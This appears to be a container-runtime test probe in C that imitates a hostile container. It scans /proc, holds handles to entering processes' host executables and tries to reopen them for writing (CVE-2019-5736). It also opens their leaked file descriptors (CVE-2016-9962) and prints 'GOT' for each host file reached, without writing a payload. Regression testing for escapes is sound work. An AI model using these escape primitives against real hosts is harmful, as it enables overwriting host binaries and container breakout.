// SPDX-License-Identifier: Apache-2.0
/*
 * hunter: what a hostile container does to those who enter it. Until there is a file /stop, it looks at every process that
 * appears: takes hold of its program, to open that for writing as soon as it is no longer busy (CVE-2019-5736), and opens its
 * descriptors (CVE-2016-9962). What it gets that is not of its own tree, it says: "GOT …".
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define HELD_MAX 900

static int held[HELD_MAX], n_held;
static long seen;

/* Where the link leads is not what it is: a file of another tree. */
static bool is_foreign(int fd, const char *link, char target[PATH_MAX])
{
	struct stat here, it;
	ssize_t n = readlink(link, target, PATH_MAX - 1);

	if (n <= 0 || *target != '/')
		return false; /* a pipe, a socket */
	target[n] = '\0';
	if (fstat(fd, &it) < 0 || !(S_ISREG(it.st_mode) || S_ISDIR(it.st_mode)))
		return false;
	return stat(target, &here) < 0 || here.st_ino != it.st_ino || here.st_dev != it.st_dev;
}

static void hold_program(const char *pid)
{
	char path[64], target[PATH_MAX];

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);

	if (fd >= 0 && n_held < HELD_MAX && is_foreign(fd, path, target))
		held[n_held++] = fd;
	else
		close(fd);
}

static void write_programs(void)
{
	char path[64];

	for (int i = 0; i < n_held; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		int fd = open(path, O_RDWR | O_CLOEXEC);

		if (fd < 0 && errno == ETXTBSY)
			continue; /* not yet */
		if (fd >= 0)
			puts("GOT a program of the host, open for writing");
		close(fd);
		close(held[i]);
		held[i--] = held[--n_held];
	}
}

static void open_fds(const char *pid)
{
	char path[320], target[PATH_MAX];

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *fds = opendir(path);

	for (struct dirent *e = fds ? readdir(fds) : NULL; e; e = readdir(fds)) {
		if (atoi(e->d_name) < 3) /* its streams were given to it */
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, e->d_name);
		int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);

		if (fd >= 0 && is_foreign(fd, path, target))
			printf("GOT the host's %s\n", target);
		close(fd);
	}
	if (fds)
		closedir(fds);
}

int main(void)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("hunting");
	while (access("/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");

		for (struct dirent *e = proc ? readdir(proc) : NULL; e; e = readdir(proc)) {
			if (*e->d_name < '1' || *e->d_name > '9' || atoi(e->d_name) == getpid())
				continue;
			seen++;
			hold_program(e->d_name);
			open_fds(e->d_name);
		}
		closedir(proc);
		write_programs();
	}
	for (int i = 0; i < 100 && n_held > 0; i++) {
		usleep(10000);
		write_programs();
	}
	printf("seen %ld\n", seen);
}
